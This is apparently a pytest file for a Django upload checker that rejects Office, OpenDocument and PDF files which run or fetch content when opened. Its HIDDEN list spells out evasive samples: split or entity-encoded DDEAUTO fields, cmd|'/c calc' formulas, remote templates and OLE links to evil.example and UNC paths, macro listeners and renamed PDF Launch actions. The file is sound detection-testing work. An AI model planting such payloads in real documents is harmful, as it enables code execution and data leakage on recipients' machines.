"""Documents that fetch, start or ask something when they are opened, however it is written; and ordinary ones."""

# ruff: noqa: E501 (a file reads best in one line)

from __future__ import annotations

import io
import struct

import docx
import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl.chart import BarChart
from openpyxl.comments import Comment

from media.services.uploads import check_document
from tests.factories.media import image_bytes
from tests.media.test_inspection import (
    MACRO_TYPE,
    SCRIPT,
    TYPES,
    WAYS,
    biff,
    compound,
    office,
    opened,
    package,
    pdf,
)

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def related(kind, target, *, mode='TargetMode="External" ', more=""):
    """Return the relations of a part: one of this kind, as a hostile or an honest file writes it."""
    one = f'<Relationship Id="r1" {more}Type="{RELATIONS}{kind}" {mode}Target="{target}"/>'
    return ("word/_rels/document.xml.rels", f"<Relationships>{one}</Relationships>")


def word(body):
    return office(("word/document.xml", f'<w:document xmlns:w="w" xmlns:r="r"><w:body>{body}</w:body></w:document>'))


def field(*runs, result="x", name="instrText"):
    """Return a field of Word whose instruction stands in several runs."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    text = "".join(run if run.startswith("<") else f"<w:r><w:{name}>{run}</w:{name}></w:r>" for run in runs)
    return mark("begin") + text + mark("separate") + f"<w:r><w:t>{result}</w:t></w:r>" + mark("end")


def excel(*parts):
    return office(*parts, first="xl/workbook.xml")


def written(content, *parts, kind=b"text"):
    """Return an OpenDocument text with this in its body."""
    return opened(
        kind,
        ("content.xml", f"<office:document-content><office:body>{content}</office:body></office:document-content>"),
        *parts,
    )


SPACE = "&#32;" * 5000
MANIFEST = '<!DOCTYPE m:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><m:manifest/>'
#: Written so that whoever looks at the text, at its beginning, or for a plain spelling alone does not see it.
HIDDEN = [
    # programs: a cell's far down in its part, a field's in one piece, in several, in an attribute, taken back, inside
    ("a.xlsx", excel(("xl/externalLinks/a.xml", f'<l a="{SPACE}"><x:ddeLink ddeService="cmd"/></l>')), "macros"),
    ("a.xlsx", excel(("xl/a.xml", "<s><f>cmd|'/c calc'!A0</f></s>")), "macros"),
    ("a.xlsx", excel(("xl/a.xml", "<s><f>_xlfn.RTD (\"a\")</f></s>")), "macros"),
    ("a.docx", word(field("DDEAUTO c:\\a.exe")), "macros"),
    ("a.docx", word(field(" DD", "<w:r><w:t/></w:r>", "EAU", "TO c:\\a.exe")), "macros"),
    ("a.docx", word(field("&#68;d&#x45; cmd")), "macros"),
    ("a.docx", word(field("DDE cmd", name="delInstrText")), "macros"),
    ("a.docx", word('<w:fldSimple w:instr="&#10; ddeauto cmd"/>'), "macros"),
    ("a.docx", word(field(field("QUOTE x", result="DDE"), " cmd")), "macros"),
    ("a.docx", word(field("IF 1 = ", field("DDE cmd"), " 2")), "macros"),
    ("a.docx", word('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>'), "macros"),
    ("a.docx", word("<w:instrText>DDE x</w:instrText>"), "macros"),
    # a second attribute of the same local name, another prefix, a deleted piece or an element inside: one of the two
    # readings is not what the program reads
    ("a.docx", word('<w:fldSimple z:instr="PAGE" w:instr="DDEAUTO cmd x"/>'), "damaged"),
    ("a.docx", word(field("<z:instrText>PAGE </z:instrText>", "DDEAUTO cmd")), "damaged"),
    ("a.docx", word(field("<w:delInstrText>PAGE </w:delInstrText>", "DDEAUTO cmd")), "macros"),
    ("a.docx", word(field("<w:r><w:instrText><w:instrText/>DDEAUTO cmd</w:instrText></w:r>")), "damaged"),
    ("a.docx", word(field("<w:r><w:instrText><z:q>PAGE </z:q>DDEAUTO cmd</w:instrText></w:r>")), "damaged"),
    ("a.xlsx", excel(("xl/a.xml", '<s><f><z:f/>WEBSERVICE("x")</f></s>')), "damaged"),
    ("a.xlsx", excel(("xl/a.xml", '<s><dbPr z:connection="Data Model Connection" connection="x"/></s>')), "damaged"),
    ("a.xlsx", excel(("xl/a.xml", "<s><f>'\\\\evil\\[a.xlsx]S'!A1</f></s>")), "outside"),
    ("a.xlsx", excel(("xl/a.xml", "<s><f>SQL.REQUEST(1)</f></s>")), "outside"),
    ("a.docx", office(related("image", "a.png", more=f'z:Type="{RELATIONS}hyperlink" ')), "damaged"),
    ("a.docx", office(related("attachedTemplate", r"\??\UNC\evil\x.dotm")), "macros"),
    ("a.odt", written('<draw:image xlink:href="a/../../x"/>'), "outside"),
    ("a.doc", compound(WordDocument=b" " * 600 + b"\x13 DDEAUTO cmd \x14x\x15"), "macros"),
    ("a.doc", compound(WordDocument=b" " * 600 + "\x13DDE cmd \x14".encode("utf-16-le")), "macros"),
    ("a.xls", compound(Workbook=biff((0x01AE, struct.pack("<HHB", 0, 8, 0) + b"cmd\x03/c x"))), "macros"),
    ("a.pptx", office(("ppt/s.xml", '<a:hlinkClick action="PPACTION://program"/>'), first="ppt/p.xml"), "macros"),
    ("a.pptx", office(("ppt/s.xml", '<p:cmd type="verb" cmd="3"/>'), first="ppt/p.xml"), "macros"),
    # types and relations in references, UTF-16, any order, other names, other letters
    ("a.docx", office(("[Content_Types].xml", TYPES.format(MACRO_TYPE.replace("vbaP", "vba&#80;")))), "macros"),
    ("a.xlsx", excel(("[Content_Types].xml", TYPES.format('<D ContentType="x.macro&#x45;nabled.main+xml"/>'))), "macros"),
    ("a.xlsx", excel(("[Content_Types].xml", TYPES.format('<O ContentType="a.sheet.binary.macroEnabled"/>'))), "macros"),
    ("a.docx", office(related("attached&#84;emplate", "http://evil.example/t.dotm")), "macros"),
    ("a.docx", office(related("attachedTemplate", "ht&#116;p://evil.example/t.dotm", more='a="&gt;>" ')), "macros"),
    ("a.docx", office(related("attachedTemplate", "//may/t.dotm", mode="TargetMode='e&#120;ternal' ")), "macros"),
    ("a.docx", office(related("attachedTemplate", "file://may/t.dotm")), "macros"),
    ("a.docx", office(related("attachedTemplate", "file:///%5C%5Cmay/t.dotm")), "macros"),
    ("a.docx", office(related("attachedTemplate", "mhtml:http://evil.example/t!x")), "macros"),
    ("a.docx", office(related("attachedTemplate", "http://evil.example/t.dotm", mode="")), "macros"),
    ("a.docx", office(("word/_RELS/x.xml.Rel%73", related("oleObject", "http://evil.example/")[1])), "outside"),
    ("a.docx", office(("x.rels", related("oleObject", "http://evil.example/")[1].encode("utf-16"))), "outside"),
    *(
        ("a.docx", office(related(kind, target)), "outside")
        for kind in ("oleObject", "frame", "subDocument", "externalLinkPath", "image", "hyperlink/x")
        for target in ("https://evil.example/a", "file:///C:/a", r"\\may\a", "//may/a", "a.docx")
    ),
    *(
        ("a.docx", office(related("hyperlink", target)), "outside")
        for target in ("file://may/a", "fi&#10;le:///C:/a", r"\\may\a", "/%5cmay/a", "mhtml:x", "javascript:x", "ms-word:x")
    ),
    ("a.docx", office(related("aFChunk", "a.html", mode="")), "outside"),
    # a relation that says it is a link, and is taken in
    (
        "a.docx",
        office(
            related("hyperlink", "https://evil.example/a"),
            ("word/document.xml", '<w:d xmlns:w="w"><w:attachedTemplate r:id="r1"/></w:d>'),
        ),
        "outside",
    ),
    *(
        ("a.docx", word(field(text)), "outside")
        for text in ("INCLUDEPICTURE \"http://evil.example/a\" \\d", "link Excel.Sheet.8 a.xls", "HYPERLINK \\h file:///C:/a",
                     'HYPERLINK "\\\\\\\\may\\\\a"')
    ),
    ("a.docx", word('<v:imagedata src="//may/a"/>'), "outside"),
    ("a.docx", word('<wp15:webVideoPr embeddedHtml="x"/>'), "outside"),
    ("a.xlsx", excel(("xl/connections.xml", '<c><dbPr connection="Provider=x"/></c>')), "outside"),
    ("a.xlsx", excel(("xl/s.xml", '<f>WEBSERVICE("http://evil.example/")</f>')), "outside"),
    ("a.xls", compound(Workbook=biff((0x01AE, struct.pack("<HHB", 1, 6, 0) + b"\x01a.xls"))), "outside"),
    # OpenDocument
    *(
        ("a.odt", written(text), code)
        for text, code in (
            ('<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>', "macros"),
            ('<text:dde-connection-decl office:dde-application="cmd"/>', "macros"),
            ('<script:event-listener x:href="vnd.sun.star.script&#58;a?language=Basic"/>', "macros"),
            ('<presentation:event-listener xlink:href="macro:///A.B.c()"/>', "macros"),
            ('<script:event-listener script:macro-name="a.b"/>', "macros"),
            ("<text:script>alert(1)</text:script>", "macros"),
            ('<text:a xlink:href="javascript:x"/>', "macros"),
            ('<text:a xlink:href=".uno:Save"/>', "outside"),
            ('<text:a xlink:href="fil&#101;:///a"/>', "outside"),
            ('<draw:object xlink:href="http://evil.example/a"/>', "outside"),
            ('<draw:image xlink:href="../a.png"/>', "outside"),
            ('<draw:floating-frame xlink:href="//may/a"/>', "outside"),
            ('<text:section-source xlink:href="file:///C:/a.odt"/>', "outside"),
            ('<table:table-cell table:formula="of:=DDE(&quot;a&quot;;1;2)"/>', "macros"),
            ('<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;a&quot;)"/>', "outside"),
            ("<table:table-cell table:formula=\"of:=['file:///C:/a.ods'#$A.A1]\"/>", "outside"),
        )
    ),
    ("a.odt", written("", ("meta.xml", '<meta:template xlink:href="https://evil.example/t.ott"/>')), "macros"),
    ("a.odt", written("", ("META-INF/manifest.xml", "<a><manifest:encryption-data/></a>")), "locked"),
    ("a.odt", written("", ("Configurations2/menubar/a.xml", '<m m:href="macro:///A"/>')), "macros"),
    ("a.docx", office(("word/embeddings/a.odt", written("<text:script>x</text:script>"))), "macros"),
    # what cannot be read as it says, and what a document type could put in
    ("a.docx", office(("word/document.xml", "<w:document>")), "damaged"),
    ("a.docx", office(("word/a.rels", '<!DOCTYPE a [<!ENTITY t "attachedTemplate">]><a/>')), "damaged"),
    ("a.docx", office(("word/embeddings/a.docx", office()[:-30])), "damaged"),
    ("a.odt", written("", ("META-INF/manifest.xml", MANIFEST.replace('dtd"', 'dtd" [<!ENTITY a "b">]'))), "damaged"),
    # PDF: packs that do not say so, in filters that only a reader of PDF undoes; acts under other names
    *(("a.pdf", pdf(package(b"1 0 " + SCRIPT, how).replace(b"/Type /ObjStm ", b"")), "active_pdf") for how in WAYS),
    *(
        ("a.pdf", pdf(b"<< /S /%s /F (a) >>" % name), "active_pdf")
        for name in (b"GoToR", b"Go#54oR", b"SubmitForm", b"Sub#6DitForm", b"ImportData", b"#4Caunch", b"RichMedi#61")
    ),
    ("a.pdf", pdf(b"<< /F (//may/a) /Length 1 >>\nstream\nx\nendstream"), "active_pdf"),
]  # fmt: skip
#: As Word, Excel, PowerPoint and LibreOffice write them.
ORDINARY = [
    *(("a.docx", office(related("hyperlink", target)))
      for target in ("https://example.vn/?a=b&amp;c=d", "MAILTO:an@example.vn", "Bai%202.docx", "../b.docx#x", "#Muc1")),
    ("a.docx", office(related("hyperlink", "https://example.vn"), ("word/document.xml", '<w:hyperlink r:id="r1"/>'))),
    ("a.docx", office(related("attachedTemplate", "Normal.dotm"))),
    ("a.docx", office(related("attachedTemplate", r"file:///C:\Users\an\Normal.dotm"))),
    ("a.docx", office(related("image", "/word/media/a.png", mode=""))),
    ("a.docx", word(field(' HYPERLINK "https://example.vn" \\o "LINK"') + field('HYPERLINK \\l "_Toc1"') + field("PAGE"))),
    ("a.docx", word("<w:t>DDE LINK cmd|'/c calc'!A0</w:t>" + field("TOC \\o") + '<w:fldSimple w:instr=" NUMPAGES "/>')),
    ("a.docx", word(field('HYPERLINK "http://example.vn/công-văn"'))),
    ("a.docx", office(("word/media/a.svg", '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "a" "b"><svg/>'))),
    ("a.docx", office(("word/document.xml", '<?xml version="1.0" encoding="UTF-16"?><x/>'.encode("utf-16")))),
    ("a.xlsx", excel(("xl/s.xml", "<s><f>IF(A1=\"a|b\",'x|y'!A1,SUM(B:B))</f></s>"))),
    ("a.xlsx", excel(("xl/drawings/vmlDrawing1.vml", '<xml><v:fill o:href="" r:id="a"/><div>a<br>b</div></xml>'))),
    ("a.xlsx", excel(("xl/connections.xml", '<c><textPr sourceFile="C:\\a.csv"/><dbPr connection="Data Model Connection"/></c>'))),
    ("a.doc", compound(WordDocument=b" " * 600 + b'\x13 HYPERLINK "https://example.vn" \x14x\x15 \x13PAGE \\* x\x14')),
    ("a.xls", compound(Workbook=biff((0x01AE, struct.pack("<HH", 3, 0x0401)), (0x01AE, b"\x01\x00\x01\x3a")))),
    ("a.odt", written(
        '<office:scripts><office:script/></office:scripts><text:a xlink:href="https://example.vn"/><draw:image '
        'xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/><presentation:event-listener xlink:href="#p2"/>',
        ("Object 1/content.xml", '<chart:chart xlink:href=".." chart:class="chart:bar"/>'),
        ("meta.xml", '<meta:template xlink:href="../../mau.ott"/>'),
        ("Configurations2/accelerator/current.xml", b""),
        ("Configurations2/toolbar/a.xml", '<t:item xlink:href=".uno:Save"/>'),
        ("META-INF/manifest.xml", MANIFEST),
    )),
    ("a.ods", written('<c table:formula="of:=SUM([.A1:.A3])+[$&apos;Tổ 1&apos;.B2]"/>', kind=b"spreadsheet")),
]  # fmt: skip


def by_word():
    document = docx.Document()
    document.add_heading("Giáo án")
    paragraph = document.add_paragraph("Xem ")
    bound = document.part.relate_to("https://example.vn/bài", RT.HYPERLINK, is_external=True)
    paragraph._p.append(
        parse_xml(f'<w:hyperlink {nsdecls("w", "r")} r:id="{bound}"><w:r><w:t>đây</w:t></w:r></w:hyperlink>')
    )
    document.add_picture(io.BytesIO(image_bytes()))
    document.add_table(2, 2).style = "Table Grid"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def by_excel():
    book = openpyxl.Workbook()
    book.active["A1"] = "Điểm"
    book.active["A2"] = '=IF(B1>5,"đạt","hỏng")'
    book.active["A3"].hyperlink = "https://example.vn"
    book.active["A4"].comment = Comment("Nhớ xem", "An")
    book.active.add_chart(BarChart(), "D1")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(("name", "data", "code"), HIDDEN)
def test_what_acts_by_itself_is_found_however_it_is_written(name, data, code):
    with pytest.raises(ValidationError) as caught:
        check_document(SimpleUploadedFile(name, data))
    assert (caught.value.code, len(caught.value.messages)) == (code, 1)
    assert "%(" not in caught.value.messages[0]


@pytest.mark.parametrize(("name", "data"), ORDINARY)
def test_ordinary_documents_pass(name, data):
    assert check_document(SimpleUploadedFile(name, data)).read() == data


@pytest.mark.parametrize(("name", "make"), [("a.docx", by_word), ("a.xlsx", by_excel)])
def test_what_programs_really_write_passes(name, make):
    data = make()
    assert check_document(SimpleUploadedFile(name, data)).read() == data


def test_a_refusal_says_what_to_do():
    with pytest.raises(ValidationError) as caught:
        check_document(SimpleUploadedFile("a.docx", office(related("image", "https://evil.example/a.png"))))
    assert caught.value.messages == [
        (
            "Khi mở, tệp này lấy nội dung từ nơi khác (hình, bảng, tệp mẫu hoặc chương trình được liên kết), hoặc có liên kết không dẫn tới trang web hay địa chỉ thư. "
            "Hãy ngắt hoặc bỏ các liên kết ấy (trong Word và Excel: Tệp, Thông tin, Chỉnh sửa liên kết đến tệp), lưu lại rồi tải tệp mới lên."
        )
    ]
